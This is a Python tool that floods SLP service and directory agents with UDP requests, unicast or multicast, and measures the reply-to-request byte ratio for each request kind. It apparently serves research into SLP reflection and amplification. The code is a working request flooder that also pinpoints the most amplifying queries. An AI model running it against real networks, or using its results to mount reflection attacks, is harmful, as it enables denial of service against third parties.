#!/usr/bin/python3
# flood.py: floods SLP agents with small UDP requests from one source and counts what comes back.
#
# Usage: flood.py BIND PORT TARGET[,TARGET...] RATE WARMUP PHASE:SECONDS[,...] [KIND=ARG ...]
# BIND is the attacker's address; TARGET an agent's address, or 239.255.255.253 for multicast
# (REQUEST-MCAST set, sent out of BIND's interface). RATE requests a second go to each target:
# for each PHASE (srv, attr-type, attr-url, types, sa, da), WARMUP seconds whose replies are not
# counted (a source's first second), then SECONDS that are. Arguments: type=TYPE (srv,
# attr-type; default service:wbem), url=URL (attr-url). Prints one line per phase and responder:
#   PHASE RESPONDER sent=BYTES received=BYTES ratio=R largest=BYTES replies=N
# where sent counts the requests that reached that responder (all of them, for multicast); the
# uncounted first seconds the same way, the line starting with "first".
# With RATE 0 it sends one request of each phase's kind instead, waiting SECONDS for the replies.
import random
import select
import socket
import sys
import time

from slpwire import message, str16

GROUP = "239.255.255.253"


def request(kind, args, multicast):
    if kind == "types":  # SrvTypeRqst for every naming authority
        function, body = 9, str16("") + b"\xff\xff" + str16("DEFAULT")
    else:  # a SrvRqst or an AttrRqst: previous responders, type or URL, scopes, predicate or tags, SPI
        target = {"srv": args.get("type", "service:wbem"), "attr-type": args.get("type", "service:wbem"),
                  "attr-url": args.get("url"), "sa": "service:service-agent", "da": "service:directory-agent"}
        if target.get(kind) is None:
            raise SystemExit("flood.py: unknown kind %s, or no url=" % kind)
        function = 6 if kind.startswith("attr") else 1
        body = str16("") + str16(target[kind]) + str16("DEFAULT") + str16("") + str16("")
    return message(function, random.randrange(1, 65536), body, 0x2000 if multicast else 0)


def main():
    bind, port, targets, rate, warmup, phases = sys.argv[1:7]
    port, rate, warmup = int(port), float(rate), float(warmup)
    targets = targets.split(",")
    phases = [(p.split(":")[0], float(p.split(":")[1])) for p in phases.split(",")]
    args = dict(a.split("=", 1) for a in sys.argv[7:])
    multicast = targets == [GROUP]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sock.bind((bind, 0))
    if multicast:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(bind))
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    sock.setblocking(False)
    schedule = []
    for kind, seconds in phases:
        if warmup > 0 and rate > 0:
            schedule.append((kind, warmup, False))
        schedule.append((kind, seconds, True))
    for kind, seconds, counted in schedule:
        sent = {}  # requests' bytes per target
        got = {}   # responder: [bytes, largest, replies]

        def send_round():  # one request to each target
            for target in targets:
                data = request(kind, args, multicast)
                try:
                    sock.sendto(data, (target, port))
                    sent[target] = sent.get(target, 0) + len(data)
                except BlockingIOError:
                    pass

        start = time.monotonic()
        end = start + seconds
        count = 0
        if rate == 0:
            send_round()
        while (now := time.monotonic()) < end:
            if rate > 0:
                while count < int((now - start) * rate) + 1:
                    send_round()
                    count += 1
                wait = min(end, start + count / rate) - time.monotonic()
            else:
                wait = end - now
            ready, _, _ = select.select([sock], [], [], max(wait, 0))
            while ready:
                try:
                    data, (responder, _) = sock.recvfrom(70000)
                except BlockingIOError:
                    break
                entry = got.setdefault(responder, [0, 0, 0])
                entry[0] += len(data)
                entry[1] = max(entry[1], len(data))
                entry[2] += 1
        for responder in sorted(set(got) | (set() if multicast else set(sent))):
            out = sent.get(GROUP if multicast else responder, 0)
            received, largest, replies = got.get(responder, [0, 0, 0])
            print("%s%s %s sent=%d received=%d ratio=%.3f largest=%d replies=%d" % (
                "" if counted else "first ", kind, responder, out, received, received / out if out else 0.0, largest, replies), flush=True)


if __name__ == "__main__":
    main()
